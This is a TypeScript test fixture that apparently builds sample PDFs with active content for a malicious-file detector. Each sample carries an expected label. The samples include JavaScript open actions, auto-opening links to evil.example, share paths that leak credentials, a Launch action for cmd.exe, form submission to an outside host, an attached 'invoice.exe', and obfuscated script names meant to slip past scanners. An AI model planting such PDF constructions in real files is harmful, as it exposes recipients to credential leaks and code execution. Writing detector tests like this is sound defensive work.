/** PDFs that run, open or carry something: scripts, actions, forms that are sent, and attachments. */
import { PDFDocument } from "@cantoo/pdf-lib";
import { buildOnePagePdf } from "../files/build-pdf.ts";
import type { PdfAttack } from "./malicious-file.ts";
import {
  addDefinition,
  buildFlateStream,
  buildObjectStream,
  buildOpenAction,
  buildPdfWithAction,
  openedAddress,
  openedPlace,
} from "./pdf-parts.ts";

/** Builds PDFs with active content. */
export const buildActivePdfs = async (): Promise<PdfAttack[]> => {
  const attachmentPdf = await PDFDocument.create();
  attachmentPdf.addPage();
  await attachmentPdf.attach(Buffer.from("MZ"), "invoice.exe");
  const scriptedPdf = await PDFDocument.create();
  scriptedPdf.addPage();
  scriptedPdf.addJavaScript("main", "app.alert(1)");
  return [
    [
      "a base of its links on a share, given in another object",
      buildOnePagePdf({ catalogue: "/URI << /Base 5 0 R >>", more: ["(file://evil/share/)"] }),
      "pdfScript",
    ],
    [
      "a script as it opens",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /JavaScript /JS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a page of another file",
      buildOnePagePdf({
        more: [buildFlateStream("/Subtype /Form /Ref << /F (http://evil.example/a.pdf) /Page 0 >>", "x")],
      }),
      "pdfAttachment",
    ],
    [
      "a page of another file that is named in another object",
      buildOnePagePdf({
        more: [
          buildFlateStream("/Subtype /Form /Ref << /F 6 0 R /Page 0 >>", "x"),
          "(http://evil.example/a.pdf)",
        ],
      }),
      "pdfAttachment",
    ],
    [
      "a file that is named for one system",
      buildOnePagePdf({ more: [buildFlateStream("/OPI << /1.3 << /F << /UF (evil.tif) >> >> >>", "x")] }),
      "pdfAttachment",
    ],
    [
      "a link to a share",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>]",
      }),
      "pdfScript",
    ],
    [
      "a link of no scheme that leads to a share",
      buildOnePagePdf({ page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (//evil/share) >> >>]" }),
      "pdfScript",
    ],
    [
      "a link whose scheme is written in two bytes",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI <FEFF00660069006C0065003A002F002F0061> >> >>]",
      }),
      "pdfScript",
    ],
    [
      "a base of its links on a share",
      buildOnePagePdf({ catalogue: "/URI << /Base (file://evil/share/) >>" }),
      "pdfScript",
    ],
    [
      "a script with an escaped name",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /J#61vaScript /#4AS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a script in a stream of objects",
      buildOnePagePdf({ more: [buildObjectStream("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
      "pdfScript",
    ],
    [
      "a script whose kind is in another object",
      buildOnePagePdf({ catalogue: buildOpenAction("/S 5 0 R"), more: ["/JavaScript"] }),
      "pdfScript",
    ],
    ["a script by its author's library", await scriptedPdf.save(), "pdfScript"],
    [
      "an address that opens by itself",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /URI /URI (https://evil.example)") }),
      "pdfScript",
    ],
    [
      "an address that opens by itself, given in another object",
      buildOnePagePdf({
        catalogue: "/OpenAction 5 0 R",
        more: ["<< /S /URI /URI (https://evil.example) >>"],
      }),
      "pdfScript",
    ],
    [
      "an address that opens by itself, given in another object before an innocent second version",
      addDefinition(buildPdfWithAction(openedAddress), `5 0 obj\n${openedPlace}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an address that opens by itself, given in another object after an innocent first version",
      addDefinition(buildPdfWithAction(openedPlace), `5 0 obj\n${openedAddress}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an address that opens by itself, in another generation of its object",
      addDefinition(buildPdfWithAction(openedPlace), `5 1 obj\n${openedAddress}\nendobj\n`),
      "pdfScript",
    ],
    [
      "an action on opening that is given nowhere",
      buildOnePagePdf({ catalogue: "/OpenAction 5 0 R" }),
      "pdfScript",
    ],
    [
      "an address that opens after a place",
      buildOnePagePdf({
        catalogue:
          "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>",
      }),
      "pdfScript",
    ],
    [
      "an address that opens with the document's end",
      buildOnePagePdf({ catalogue: "/AA << /WC << /S /URI /URI (https://evil.example) >> >>" }),
      "pdfScript",
    ],
    [
      "a script of the page",
      buildOnePagePdf({ page: "/AA << /O << /S /JavaScript /JS 5 0 R >> >>", more: ["(x)"] }),
      "pdfScript",
    ],
    [
      "a program to launch",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /Launch /F (cmd.exe)") }),
      "pdfScript",
    ],
    [
      "a form that is sent elsewhere",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /SubmitForm /F (https://evil.example)") }),
      "pdfScript",
    ],
    [
      "data that is imported",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /ImportData /F (a.fdf)") }),
      "pdfScript",
    ],
    [
      "a file elsewhere",
      buildOnePagePdf({ catalogue: buildOpenAction("/S /GoToR /F (\\\\\\\\evil\\\\share)") }),
      "pdfScript",
    ],
    [
      "a link that runs",
      buildOnePagePdf({
        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>]",
      }),
      "pdfScript",
    ],
    ["rich media", buildOnePagePdf({ page: "/Annots [<< /Subtype /RichMedia >>]" }), "pdfScript"],
    ["a film", buildOnePagePdf({ page: "/Annots [<< /Subtype /Movie >>]" }), "pdfScript"],
    [
      "a form of XFA",
      buildOnePagePdf({ catalogue: "/AcroForm << /XFA 5 0 R >>", more: ["(x)"] }),
      "pdfScript",
    ],
    ["an attachment", await attachmentPdf.save({ useObjectStreams: false }), "pdfAttachment"],
    [
      "an attachment in a stream of objects",
      await attachmentPdf.save({ useObjectStreams: true }),
      "pdfAttachment",
    ],
    [
      "an attachment on a page",
      buildOnePagePdf({ page: "/Annots [<< /Subtype /FileAttachment >>]" }),
      "pdfAttachment",
    ],
  ];
};
